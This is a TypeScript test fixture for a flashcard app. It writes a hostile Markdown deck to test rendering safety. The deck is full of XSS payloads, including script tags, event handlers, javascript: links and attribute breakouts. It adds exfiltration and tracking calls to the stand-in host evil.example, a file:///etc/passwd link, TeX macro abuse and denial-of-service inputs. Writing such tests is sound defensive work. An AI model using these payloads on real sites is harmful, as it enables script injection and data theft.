import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const NESTED = `${'> '.repeat(400)}deep`;
const UNCLOSED = `${'**'.repeat(2000)}bold${'['.repeat(3000)}`;
const HUGE_IMAGE = `data:image/png;base64,${'A'.repeat(600_000)}`;

const ATTACKS = `
<script>window.pwned = 'script'</script>
<img src=x onerror="window.pwned = 'handler'">
<svg onload="window.pwned = 'svg'"><style>@import url(http://evil.example/leak.css); body { display: none }</style></svg>
<iframe srcdoc="<script>parent.pwned = 'frame'</script>"></iframe>
<form action="http://evil.example/"><input name=secret></form>
<div style="background: url(http://evil.example/leak.png); position: fixed; inset: 0">cover</div>
<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">

[run](javascript:window.pwned='link') and [hidden](java&#115;cript:window.pwned='entity')
[data](data:text/html,<script>opener.pwned='data'</script>) and [file](file:///etc/passwd) and [app](#/decks)
[auto](vbscript:pwned) <javascript:window.pwned='auto'> [title](http://safe.example "x\\" onclick=window.pwned='title')

![tracking](http://evil.example/pixel.png) ![local](/v1/cards) ![svg](data:image/svg+xml;base64,PHN2Zy8+)
![huge](${HUGE_IMAGE})

$\\href{javascript:window.pwned='math'}{x}$ and $\\htmlStyle{position:fixed}{y}$ and $\\includegraphics{http://evil.example/m.png}$
$$\\def\\a{\\a\\a}\\a$$ and $\\rule{9999em}{9999em}$ and $\\unknown{<img src=x onerror=window.pwned='tex'>}$

\`\`\`js" onmouseover="window.pwned='fence'
</code></pre><script>window.pwned = 'code'</script>
\`\`\`

\`\`\`html
<script>window.pwned = 'highlighted'</script>
\`\`\`
`;

/** The question of the card that holds every attack. */
export const HOSTILE_QUESTION = 'What does the hostile card do to the page?';

/** A deck whose author means harm, in a folder of its own. */
export function writeHostileDeck(): string {
  const folder = mkdtempSync(join(tmpdir(), 'deckwise-hostile-'));
  const card = (title: string, question: string, answer: string) =>
    `#### ${title}\n:p ${question}\n??x\n${answer}\nx??\n\n---\n\n`;
  const deck =
    `# Hostile <img src=x onerror="window.pwned='name'">\n\n` +
    card('<img src=x onerror=window.pwned="heading">', HOSTILE_QUESTION, ATTACKS) +
    card('Nesting', 'How deep does the nesting card go?', NESTED) +
    card('Openers', 'What do openers without closers do?', UNCLOSED) +
    card('Length', 'How long is the longest answer?', 'A long sentence that goes on. '.repeat(4_000));
  writeFileSync(join(folder, 'hostile.md'), deck);
  return folder;
}
